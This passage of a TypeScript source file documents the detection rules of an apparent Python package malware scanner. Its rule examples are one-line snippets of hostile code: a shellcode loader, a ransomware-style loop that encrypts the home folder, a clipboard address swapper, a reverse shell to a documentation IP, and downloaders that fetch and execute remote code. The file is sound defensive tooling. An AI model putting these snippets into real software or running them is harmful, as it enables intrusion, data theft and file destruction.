      'Installers writing .pth files and system-administration tools editing the hosts or sudo files when their user asks (low and medium); a hosts file under another root (neutron-vpnaas writes the etc/hosts of a network namespace when called: medium).',
  },
  // install-time hooks
  {
    id: 'install-writes-home',
    name: 'Writes into the home folder at install',
    family: 'install-hook',
    severity: 'high',
    catches:
      "Code that runs while pip installs (setup.py, its install hooks and what they call) creating or writing a file or folder in the user's home folder, Desktop or Documents (open(..., 'w'), os.mkdir, shutil.copy, Path.write_text), found by the folded path (~, /home/x, C:\\Users\\x) or by a path built from expanduser, Path.home, getlogin or HOME: a build writes into its build tree; markers of install-time code execution, pranks and droppers write here.",
    example: 'open(os.path.join(os.path.expanduser("~"), "pwned.txt"), "w") in an install hook',
    falsePositives: 'Old setup.py files that write a configuration file into the home folder.',
  },
  {
    id: 'install-hook-cmdclass',
    name: 'setup.py command override',
    family: 'install-hook',
    severity: 'low',
    catches: 'setup(cmdclass={"install": ...}) and friends: code pip runs while installing an sdist.',
    example: 'setup(cmdclass={"install": PostInstall})',
    falsePositives: 'Packages with compiled extensions override build_ext legitimately.',
  },
  {
    id: 'env-read',
    name: 'Environment read',
    family: 'data-flow',
    severity: 'info',
    catches:
      'Reading the whole environment (dict(os.environ), os.environ.copy/items) or a variable named like a credential (…KEY, …TOKEN, …SECRET, AWS_SECRET_…): the env capability. The exfiltration rule reports it when the value reaches the network.',
    example: 'token = os.getenv("GITHUB_TOKEN")',
    falsePositives: 'SDKs reading their own API key from the environment (info only).',
  },
  {
    id: 'shellcode-loader',
    name: 'Machine code run from memory',
    family: 'process',
    severity: 'high',
    catches:
      'A file that makes memory executable (VirtualAlloc, VirtualProtect, NtAllocateVirtualMemory, mprotect, an mmap with PROT_EXEC) and starts code there (CreateThread, CreateRemoteThread, QueueUserAPC, EnumSystemLocales callbacks, a ctypes CFUNCTYPE made from an address): shellcode loaders and process injection. High when the file carries machine code or an encoded blob (b"\\x48\\x31...", long base64 or hex) or does it in code that runs by itself (critical there); medium in code a user calls without such a constant.',
    example:
      'p = kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40); kernel32.RtlMoveMemory(p, buf, len(buf)); kernel32.CreateThread(0, 0, p, 0, 0, 0)',
    falsePositives:
      'Debuggers, instrumentation and memory editors (winappdbg, pymem) that allocate and start code in a process their user names: medium when called.',
  },
  {
    id: 'files-encrypted-in-place',
    name: 'Files encrypted in place',
    family: 'process',
    severity: 'high',
    catches:
      'One function that walks a folder tree (os.walk, scandir, listdir, glob, Path.rglob), encrypts what it reads (Fernet, PyCryptodome or cryptography ciphers, pyAesCrypt) and removes or replaces the originals (os.remove, unlink, rename, shutil.move): the shape of ransomware. High when it walks the home folder, the root or a drive, when the file holds a ransom note (bitcoin/monero with decrypt/restore, "your files are encrypted") or in code that runs by itself (critical there); medium for a folder a user names when calling it.',
    example:
      'for root, _, files in os.walk(os.path.expanduser("~")): ... open(p + ".locked", "wb").write(f.encrypt(data)); os.remove(p)',
    falsePositives: 'Backup and vault tools that encrypt a folder their user names: medium when called.',
  },
  {
    id: 'clipboard-hijack',
    name: 'Clipboard hijacking',
    family: 'data-flow',
    severity: 'medium',
    catches:
      'Code that reads the clipboard and writes it back (pyperclip, win32clipboard, tkinter): the crypto-address swappers. High in code that runs by itself.',
    example: 'if ADDRESS.match(pyperclip.paste()): pyperclip.copy(MY_ADDRESS)',
    falsePositives: 'Clipboard managers and editors that transform what the user copied.',
  },
  {
    id: 'install-imports-module',
    name: 'Package module run at install time',
    family: 'install-hook',
    severity: 'info',
    catches:
      "A module of the archive that install-time code imports (setup.py's install hook doing `from pkg import tools; tools.init()`, or loading it from its file with importlib.util.spec_from_file_location and module_from_spec), with the functions it calls or imports from it. The target stage analyses that module as install-time code: its module level and those functions (and what they call, import or re-export in turn) count as running while pip installs, so a payload moved out of setup.py keeps its install-time severity. Modules the archive does not hold (setuptools, dependencies) are not reported.",
    example: 'class Install(install):\n    def run(self):\n        from demo import hook\n        hook.start()',
    falsePositives:
      'setup.py reading the version from its own package: the finding is info, and that module is judged as install-time code.',
  },
  {
    id: 'python-code-written',
    name: 'Python code written to a file',
    family: 'dynamic-code',
    severity: 'info',
    catches:
      'A string literal that reads as Python statements (an import, or a call of exec, eval, compile or __import__) written into a file with .write(), typically to start it later as a script. The literal is analysed as a virtual file (path#decoded-N) with the trigger of the write, so a downloader kept as text is judged as the code it is.',
    example: 'tmp.write(b"from urllib.request import urlopen; exec(urlopen(URL).read())")',
    falsePositives:
      'Code generators and project templates that write Python files; info, their content is judged on its own.',
  },
  {
    id: 'drop-and-run',
    name: 'Writes and runs an executable',
    family: 'process',
    severity: 'medium',
    catches:
      "Code that writes a file named like an executable or script (.exe, .vbs, .bat, .ps1, .scr, .hta, ...) and starts it (subprocess, os.system, os.startfile). High in code that runs by itself, and for an executable a function writes from text it downloads and decodes (hex, base64): a dropper's first stage even before anything starts it.",
    example: 'open(path, "wb").write(payload); os.startfile(path)',
    falsePositives: 'Installers that generate and run helper scripts.',
  },
  {
    id: 'reverse-shell',
    name: 'Reverse shell',
    family: 'process',
    severity: 'high',
    catches:
      'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives; a chat bot (discord, telebot, telegram, aiogram, pyrogram, telethon, Slack) that hands a shell a command line it does not write itself (os.system(cmd), Popen(cmd, shell=True)): the chat is the remote shell; a web handler (flask, bottle, fastapi, tornado, aiohttp, http.server, ...) that hands a shell a command line read from the request (a web shell); a shell handed command lines that come from an HTTP reply (a loop polling its controller).',
    example: 's.connect(("192.0.2.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")',
    falsePositives:
      "Remote-debugging and terminal-sharing tools; administration bots that run their owner's shell commands (a remote shell by design). A daemon that puts a descriptor opened from a path (os.open(os.devnull), open(log).fileno()) behind its standard streams is not a socket wired to them, nor is dup2(0, 1) (stdout pointed at the stdin it opened).",
  },
  {
    id: 'keylogger',
    name: 'Keystroke recording',
    family: 'data-flow',
    severity: 'medium',
    catches:
      'Keyboard hooks (pynput Listener, keyboard.on_press/hook, GetAsyncKeyState); high when the same file sends data over the network. With a persistence finding anywhere in the target, the target is high (a join in correlations.ts: the two halves of a spyware implant).',
    example: 'pynput.keyboard.Listener(on_press=log).start()',
    falsePositives: 'Hotkey and automation libraries.',
  },
  {
    id: 'build-hook',
    name: 'Build code run at install',
    family: 'install-hook',
    severity: 'low',
    catches:
      'An sdist whose pyproject.toml builds it with an in-tree PEP 517 backend (backend-path), a hatch custom build hook (hatch_build.py or its path), a pdm build hook (pdm_build.py), a poetry build script ([tool.poetry.build] script, or build = under [tool.poetry]), or setuptools command classes named in pyproject.toml ([tool.setuptools.cmdclass]) or setup.cfg (cmdclass under [options]): pip runs that code when it installs the sdist, and pyguard analyses it as install-time code.',
    example: '[build-system] build-backend = "backend" backend-path = ["_build"]',
    falsePositives:
      'Projects that build themselves (setuptools, flit_core) and legitimate hatch hooks that generate files.',
  },
  {
    id: 'pth-executes-code',
    name: '.pth file runs code',
    family: 'install-hook',
    severity: 'low',
    catches:
      'A .pth file with lines starting with "import", which site.py executes at every interpreter start. High when that code does anything beyond importing (network, exec, decoding), medium when the file is large (over 1 KiB of lines that are not setuptools\' namespace-package template, whose only variable parts are the package names).',
    example: 'import base64;exec(base64.b64decode("..."))',
    falsePositives: "setuptools' distutils-precedence.pth and editable-install hooks (reported low).",
  },
  // not analysed: the target is unaudited
  {
    id: 'file-not-analysed',
    name: 'File not analysed',
    family: 'unaudited',
    severity: 'medium',
    catches:
      'A file pyguard could not analyse as Python would read it: over the 16 MiB parse limit, parsing stopped by its time budget, a coding cookie naming a codec that cannot be decoded faithfully here (hz, johab, iso2022_kr with non-ASCII bytes; an unresolvable \\N{...} under unicode_escape), a payload decoded more than 3 layers deep, the decoding budget of the target spent, an archive member whose bytes were not read (size limit, unsupported compression, bad CRC), or a script in a language pyguard does not read (JavaScript, VBScript) that setup.py runs at install time.',
    example: '# coding: hz  (with ~{ shift sequences)',
    falsePositives: 'Huge generated modules (tables, vendored bundles) over the parse limit.',
  },
  {
    id: 'analysis-failed',
    name: 'Analysis failed',
    family: 'unaudited',
    severity: 'medium',
    catches:
      'The analysis of one file stopped with an error (a budget exceeded, a construct too deep to walk): that file is reported, the other files of the target are still analysed.',
    example: 'a.b.b.b (50 000 attributes deep) = 1',
    falsePositives: 'None: the file was not analysed.',
  },
];

/** Every rule: those about code, then those about a target as a whole (archives, packages, metadata, known malware). */
export const RULE_DOCS: RuleDoc[] = [...CODE_RULE_DOCS, ...TARGET_RULE_DOCS];

/** The rules as presenters need them (SARIF driver rules, HTML legend). */
export function allRules(): RuleInfo[] {
  return RULE_DOCS.map((rule) => ({
    id: rule.id,
    name: rule.name,
    shortDescription: rule.name,
    fullDescription: rule.catches,
    help: `${rule.catches}\n\nExample: ${rule.example}\n\nKnown false positives: ${rule.falsePositives}`,
    defaultSeverity: rule.severity,
  }));
}
